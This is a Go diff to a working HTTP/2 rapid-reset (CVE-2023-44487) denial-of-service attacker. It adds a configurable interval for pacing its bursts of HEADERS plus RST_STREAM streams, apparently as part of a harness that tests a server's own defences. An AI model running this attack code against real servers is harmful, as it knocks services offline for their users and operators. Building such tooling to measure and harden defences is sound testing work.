@@ -19,7 +19,10 @@ import (
 // rapidReset is the HTTP/2 rapid-reset attacker (CVE-2023-44487): over one
 // h2c connection (prior knowledge) it writes perLoop streams at a time, each
 // a HEADERS frame (a complete GET, END_STREAM) followed at once by
-// RST_STREAM(CANCEL), flushes them in one write, and loops. Reset streams do
+// RST_STREAM(CANCEL), flushes them in one write, and loops every interval
+// (issue 8's pace: 200 every 25 ms, 8,000 streams/s; 0: as fast as it can,
+// which on a machine the attacker shares with the server measures how the
+// CPU is divided more than the server). Reset streams do
 // not count against SETTINGS_MAX_CONCURRENT_STREAMS, so nothing but the
 // server's own defences limits how many requests it starts. Each stream
 // carries a fresh random token (unknown to the auth API) unless token is
@@ -33,7 +36,8 @@ type rapidReset struct {
 	path         string
 	token        string // "": a fresh random token per stream
 	perLoop      int
-	src          string // source address; "" any
+	interval     time.Duration // between loops; 0: none
+	src          string        // source address; "" any
 	writeTimeout time.Duration
 
 	streams   atomic.Uint64 // HEADERS + RST_STREAM pairs written
@@ -51,8 +55,14 @@ var errStreamIDs = errors.New("stream IDs used up")
 
 // run attacks until ctx ends, reconnecting whenever a connection ends.
 func (a *rapidReset) run(ctx context.Context) {
+	var tick <-chan time.Time // nil: no pacing
+	if a.interval > 0 {
+		t := time.NewTicker(a.interval)
+		defer t.Stop()
+		tick = t.C
+	}
 	for ctx.Err() == nil {
-		err := a.conn(ctx)
+		err := a.conn(ctx, tick)
 		if err != nil && ctx.Err() == nil {
 			a.errs.add(err)
 			sleepCtx(ctx, 10*time.Millisecond) // a refusing server is not a busy loop
@@ -60,8 +70,9 @@ func (a *rapidReset) run(ctx context.Context) {
 	}
 }
 
-// conn runs one connection until it fails or ctx ends.
-func (a *rapidReset) conn(ctx context.Context) error {
+// conn runs one connection until it fails or ctx ends, writing a loop of
+// streams at each tick (or at once when tick is nil).
+func (a *rapidReset) conn(ctx context.Context, tick <-chan time.Time) error {
 	d := net.Dialer{Timeout: 5 * time.Second}
 	if a.src != "" {
 		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(a.src)}
@@ -112,6 +123,12 @@ func (a *rapidReset) conn(ctx context.Context) error {
 	tok := make([]byte, 0, 64)
 	id := uint32(1)
 	for {
+		if tick != nil {
+			select {
+			case <-tick:
+			case <-cctx.Done():
+			}
+		}
 		if err := context.Cause(cctx); err != nil {
 			if ctx.Err() != nil {
 				return nil
